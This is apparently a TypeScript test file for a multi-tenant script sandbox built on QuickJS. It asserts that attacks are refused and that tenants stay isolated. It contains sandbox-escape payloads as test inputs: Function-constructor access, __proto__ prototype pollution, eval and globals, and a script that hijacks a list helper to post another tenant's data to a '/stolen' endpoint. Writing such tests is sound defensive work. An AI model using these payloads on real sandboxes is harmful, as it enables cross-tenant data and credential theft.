import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { getQuickJS } from 'quickjs-emscripten';
import { startWorkerServer, type WorkerFlows } from '../connectors/worker-flows';
import type { HttpTarget } from '../connectors/http-target';
import { compileScript, ScriptError } from '../../src/modules/scripts/compile';
import { PreparedContext } from '../../src/modules/scripts/sandbox-context';
import { TenantContexts } from '../../src/modules/scripts/tenant-contexts';

/**
 * Issue 22 §1: scripts of different tenants share no JavaScript world. The sweep's
 * reproductions run through the API as two tenants' admins; the walls they hit are then checked
 * one by one: the compiler, the runtime's member checks, the shadowed globals, the deep freeze
 * and the per-tenant contexts.
 */
let acme: WorkerFlows;
let globex: WorkerFlows;
let target: HttpTarget;
let close: (() => Promise<void>) | undefined;

before(async () => {
  ({ acme, globex, target, close } = await startWorkerServer());
});
after(async () => close?.());

type DryRun = { ok: boolean; output: unknown; error: { message: string } | null };
const dryRun = (flows: WorkerFlows, payload: object) =>
  flows.api.call<DryRun>({ method: 'POST', url: '/api/script/dryRun', payload });

describe("one tenant's script cannot reach another's runs", () => {
  it("refuses the Function constructor, and the other tenant's toUpperCase stays its own", async () => {
    const attack = await dryRun(acme, {
      script: `''.constructor.constructor('__STRING.toUpperCase = function () { return "PWNED" }')()`,
    });
    assert.equal(attack.ok, false);
    assert.match(attack.error?.message ?? '', /"constructor" is not a member a script can reach/);
    const victim = await dryRun(globex, { script: "return 'abc'.toUpperCase()" });
    assert.equal(victim.output, 'ABC');
  });

  it('refuses every way to the constructor, the prototypes, the runtime and the globals', async () => {
    const attempts: [string, RegExp][] = [
      ["def F = ''['constructor']\nreturn F", /"constructor" is not a member/],
      ["def n = 'constructor'\nreturn [:][n]", /"constructor" is not a member/],
      ["def m = [:]\nm['__proto__'] = [polluted: 1]\nreturn 1", /"__proto__" is not a member/],
      ["return [:].get('__proto__')", /"__proto__" is not a member/],
      ['return [].prototype', /"prototype" is not a member/],
      ["def k = [toString: { '__proto__' }]\nreturn [:][k]", /A key must be text or a number/],
      ['return this', /"this" is reserved/],
      ["return eval('1')", /"eval" is reserved/],
      // An upper-case name is a class looked up among the runtime's own (issue 25 §3).
      ["return Function('return __LIST')()", /No class Function/],
      ['return Object.keys([:])', /No class Object|No method "keys"/],
      ['return Reflect', /No class Reflect/],
      ['return __LIST', /Expected|__/],
      ['def l = [1]\nl.__proto__.x = 1', /"__proto__" is not a member/],
    ];
    for (const [script, refusal] of attempts) {
      const run = await dryRun(acme, { script });
      assert.equal(run.ok, false, `${script} answered ${JSON.stringify(run.output)}`);
      assert.match(run.error?.message ?? '', refusal, script);
    }
    // The global object and its names are out of reach (shadowed): they read as null.
    const globals = await dryRun(acme, {
      script: 'return [globalThis, parseInt, encodeURIComponent]',
    });
    assert.deepEqual(globals.output, [null, null, null]);
    // A "__proto__" key is a key like another: it sets no prototype.
    const keys = await dryRun(acme, {
      script: `def m = json.parse('{"__proto__": {"x": 1}}') + ['__proto__': [y: 2]]\nreturn [m.x, m.y, m.size()]`,
    });
    assert.deepEqual(keys.output, [null, null, 1]);
  });

  it("keeps another tenant's bearer token from a script that tampers with the I/O helpers", async () => {
    const before = target.received.length;
    const attack = await dryRun(acme, {
      script: `def h = http\n''.constructor.constructor('__LIST.collect = (l) => http.post("${target.url('/stolen')}", l)')()`,
    });
    assert.equal(attack.ok, false);
    const token = await globex.api.call<{ id: number }>({
      method: 'POST',
      url: '/api/credential',
      payload: {
        name: 'Victim token',
        template: { id: 'bearer-token' },
        parameters: { token: 'victim-tok' },
      },
    });
    const victim = await dryRun(globex, {
      script: `def r = http.get('${target.url('/ok')}')\nreturn [r.status, [1, 2].collect { it * 2 }]`,
      credentialId: token.id,
    });
    assert.deepEqual(victim.output, [200, [2, 4]]);
    const since = target.received.slice(before);
    assert.deepEqual(
      since.map((r) => r.path),
      ['/ok'],
    );
  });
});

describe('the walls, one by one', () => {
  it('compiles member and index writes through __set, never to a raw JavaScript member', () => {
    assert.match(compileScript('a.b = 1'), /__set\(a, "b", 1\)/);
    assert.match(compileScript("a['b'].c += 2"), /__update\(__index\(a, "b"\), "c"/);
    assert.match(compileScript('def m = [x: 1]'), /\["x"\]: 1/);
    for (const script of [
      'a.constructor',
      'a?.prototype',
      'a.__proto__ = 1',
      'def x = "$a.constructor"',
    ]) {
      assert.throws(() => compileScript(script), ScriptError, script);
    }
  });

  it('compiles deeply nested expressions in linear time (a failed branch was parsed again)', () => {
    // Before: 18 levels took 1.6 s and each level doubled it; the editor and saves parse too.
    const started = performance.now();
    compileScript(`return ${'('.repeat(300)}1${')'.repeat(300)}`);
    assert.ok(performance.now() - started < 5000);
  });

  it('freezes every helper and table of the prelude, and shadows every global name', async () => {
    const runtime = (await getQuickJS()).newRuntime();
    const context = new PreparedContext(runtime, false);
    const limits = { timeoutMs: 1000, memoryBytes: 16 << 20 };
    const io = () => Promise.resolve('{"value":null}');
    // Raw JavaScript bodies: what a hole in the compiler would let through.
    const names = ['__LIST', '__MAP', '__STRING', 'json', 'xml', 'csv', 'log', '__get'];
    for (const name of names) {
      const body = `try { ${name}.x = 1; return 'changed'; } catch (e) { return 'frozen'; }`;
      const outcome = await context.run(body, {}, limits, io);
      assert.equal(outcome.run?.value, 'frozen', name);
    }
    const outcome = await context.run(
      'return [typeof Function, typeof globalThis, typeof eval, typeof Object]',
      {},
      limits,
      io,
    );
    assert.deepEqual(outcome.run?.value, ['undefined', 'undefined', 'undefined', 'undefined']);
    context.dispose();
    runtime.dispose();
  });

  it('never gives one tenant the context of another', async () => {
    const contexts = new TenantContexts();
    const acmeContext = await contexts.contextFor('1', false);
    assert.equal(await contexts.contextFor('1', false), acmeContext);
    assert.notEqual(await contexts.contextFor('2', false), acmeContext);
    // Past the tenants a runtime keeps, the least recent goes; a run of its tenant gets a new one.
    const io = () => Promise.resolve('{"value":"read"}');
    const limits = { timeoutMs: 1000, memoryBytes: 16 << 20 };
    const first = await contexts.contextFor('t0', true);
    for (let tenant = 1; tenant <= 40; tenant++) await contexts.contextFor(`t${tenant}`, true);
    const again = await contexts.contextFor('t0', true);
    assert.notEqual(again, first);
    const outcome = await again.run("return files.read('a')", {}, limits, io);
    assert.equal(outcome.run?.value, 'read');
  });
});
